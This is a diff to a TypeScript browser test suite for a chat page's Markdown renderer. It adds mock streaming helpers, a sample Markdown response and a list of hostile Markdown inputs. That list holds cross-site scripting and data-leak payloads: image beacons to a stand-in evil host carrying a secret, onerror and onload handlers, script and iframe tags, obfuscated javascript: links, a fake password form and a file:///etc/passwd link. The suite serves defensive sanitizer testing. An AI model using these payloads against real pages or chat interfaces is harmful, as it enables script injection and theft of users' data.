@@ -1,10 +1,8 @@
+import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import { looksWell } from '../pages/findings.ts';
 import { watchSmoothness } from '../pages/smoothness.ts';
 import { ask, eventually, log, member, press, requestsOf, say, service, shows, visit } from '../stage.ts';
-import { hostileMarkdown } from './hostile-markdown.ts';
-import { sampleMarkdown } from './sample-markdown.ts';
-import { respondWith, streamSlowly } from './scripted-streams.ts';
 
 const allowedElements = new Set(
   'DIV SPAN STRONG EM DEL P H3 H4 H5 H6 UL OL LI INPUT BLOCKQUOTE PRE CODE BR HR A TABLE THEAD TBODY TR TH TD BUTTON svg path'.split(
@@ -124,3 +122,134 @@ export function markdownTests(): void {
     await eventually(() => loaded.filter((url) => /markdown-.*\.js$/.test(url)).length).toBe(1);
   });
 }
+
+const event = (message: string, data: unknown): string =>
+  `data: ${JSON.stringify({ message, error: false, data, status: 200 })}\n\n`;
+const chunk = (delta: object, finish: string | null, more: object = {}): string =>
+  event('STREAM_CHUNK', { choices: [{ index: 0, delta, finish_reason: finish }], ...more });
+
+const usage = { prompt_tokens: 8, completion_tokens: 90, total_tokens: 98 };
+const end = chunk({}, 'stop', { usage }) + event('STREAM_COMPLETE', null);
+
+/** Makes the page's next chats return this text. */
+async function respondWith(page: Page, text: string): Promise<void> {
+  await page.unroute('**/v1/chat/completions');
+  await page.route('**/v1/chat/completions', (route) =>
+    route.fulfill({
+      headers: { 'content-type': 'text/event-stream', 'x-request-id': 'scripted' },
+      body: chunk({ content: text }, null) + end,
+    }),
+  );
+}
+
+/** Makes every chat of the page stream this text in pieces of four characters. */
+async function streamSlowly(page: Page, text: string, piecesPerSecond: number): Promise<void> {
+  const events = (text.match(/[^]{1,4}/g) ?? []).map((piece) => chunk({ content: piece }, null));
+  const everyMs = 10;
+  const perTick = Math.ceil((piecesPerSecond * everyMs) / 1000);
+  await page.addInitScript(`{
+    const events = ${JSON.stringify([...events, end])};
+    const real = window.fetch;
+    window.fetch = (url, init) => {
+      if (!String(url).endsWith('/v1/chat/completions')) return real(url, init);
+      let at = 0;
+      const encoder = new TextEncoder();
+      const body = new ReadableStream({
+        start(controller) {
+          const timer = setInterval(() => {
+            controller.enqueue(encoder.encode(events.slice(at, at + ${perTick}).join('')));
+            at += ${perTick};
+            if (at < events.length) return;
+            clearInterval(timer);
+            controller.close();
+          }, ${everyMs});
+        },
+      });
+      return Promise.resolve(new Response(body, { headers: { 'content-type': 'text/event-stream' } }));
+    };
+  }`);
+}
+
+/** A response of about 300 tokens with every Markdown element. */
+export const sampleMarkdown = `# A short guide
+
+A paragraph with **strong**, *emphasised*, ~~deleted~~ and \`inline code\`, a link to
+[the documentation](https://example.com/docs?a=1&amp;b=2), and an address: https://example.com/plain.
+
+## Steps
+
+1. Install the package.
+2. Set \`API_KEY\`:
+   - in the shell, or
+   - in a file that is *not* committed.
+3. Call the API.
+
+- [x] written
+- [ ] published
+- a plain point
+
+> A quote, with a **strong** word,
+> over two lines.
+
+| Model | Window | Note |
+| --- | ---: | :-: |
+| \`svc-1\` | 4,096 | chat &amp; completion |
+| \`svc-code\` | 8,192 | code<br>and more |
+
+\`\`\`js
+import OpenAI from 'openai';
+
+const client = new OpenAI({ baseURL: 'https://api.example.com/openai/v1', apiKey: process.env.API_KEY });
+\`\`\`
+
+### Afterwards
+
+A last paragraph: 2 < 3 && 3 > 2 &copy; <b>no HTML</b>.
+
+---
+`;
+
+/** Markdown with which a hostile model could make the page load, run or leak something, one attempt per paragraph. */
+export const hostileMarkdown: readonly string[] = [
+  '![pixel](https://evil.example/pixel.png?leak=secret)',
+  '![][ref]',
+  '[![badge](https://evil.example/badge.svg)](https://evil.example/page)',
+  '<img src="https://evil.example/x.png" onerror="window.hacked = 1">',
+  '<img src=x onerror=window.hacked=1>',
+  '<script>window.hacked = 1</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/bg) }</style>',
+  '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example">',
+  '<iframe src="https://evil.example/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
+  '<svg onload="window.hacked = 1"><use href="https://evil.example/x.svg#x"/></svg>',
+  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
+  '<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>',
+  '<a href="javascript:window.hacked = 1" onclick="window.hacked = 1">html link</a>',
+  '<div style="background-image: url(https://evil.example/div)">styled</div>',
+  '[script](javascript:window.hacked=1)',
+  '[case](JaVaScRiPt:window.hacked=1)',
+  '[entity](&#106;avascript:window.hacked=1)',
+  '[colon](javascript&colon;window.hacked=1)',
+  '[tab](java\tscript:window.hacked=1)',
+  '[space](<  javascript:window.hacked=1>)',
+  '[data](data:text/html,<script>window.hacked=1</script>)',
+  '[vbscript](vbscript:msgbox(1))',
+  '[file](file:///etc/passwd)',
+  '[blob](blob:https://evil.example/1)',
+  '[plain](http://evil.example/plain)',
+  '[relative](//evil.example/relative)',
+  '[own](/api/auth/logout)',
+  '[anchor](#content)',
+  '[user](https://bank.example:x@evil.example/)',
+  '<javascript:window.hacked=1>',
+  '[title](https://evil.example/title "x\\" onmouseover=\\"window.hacked=1")',
+  '[reference][ref]',
+  'www.evil.example/bare and https://evil.example/bare',
+  '`<img src=x onerror=window.hacked=1>`',
+  '```html" onmouseover="window.hacked=1\n<script>window.hacked = 1</script>\n```',
+  '| <img src=https://evil.example/t> | ![](https://evil.example/c) |\n| :-: | --- |\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |',
+  '- [ ] <input autofocus onfocus="window.hacked=1">\n- ![](https://evil.example/li)',
+  '> <object data="https://evil.example/object"></object>',
+  '[ref]: javascript:window.hacked=1',
+];
